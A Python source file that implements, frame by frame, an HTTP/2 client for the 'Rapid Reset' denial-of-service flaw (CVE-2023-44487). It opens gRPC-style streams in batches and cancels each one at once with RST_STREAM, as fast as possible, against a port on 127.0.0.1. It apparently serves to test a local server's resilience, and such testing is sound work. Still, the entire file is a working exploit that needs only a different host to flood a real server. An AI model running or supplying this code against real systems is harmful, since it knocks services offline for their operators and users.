"""A client that opens calls only to cancel them, as fast as it can (CVE-2023-44487): HTTP/2 by hand."""

import socket
import struct
import threading

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_HEADERS, _ACK = 4, 1
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 50


def open_and_cancel(port: int, method: str, calls: int) -> None:
    """Send so many calls and their cancellations over one connection; ends sooner where the server ends it."""
    head = b"".join(
        _field(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method),
            (":authority", "localhost"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        )
    )
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_SETTINGS, _ACK, 0))
        reading = threading.Thread(target=_read_all, args=(connection,))
        reading.start()
        try:
            for first in range(0, calls, _AT_ONCE):
                streams = range(2 * first + 1, 2 * (first + _AT_ONCE), 2)
                connection.sendall(
                    b"".join(
                        _frame(_HEADERS, _END_HEADERS, stream, head) + _frame(_RST_STREAM, 0, stream, _CANCEL)
                        for stream in streams
                    )
                )
            connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass  # the server has had enough
        reading.join()


def _read_all(connection: socket.socket) -> None:
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass


def _field(name: str, value: str) -> bytes:
    """Write a header as HPACK's literal that nobody has to remember."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
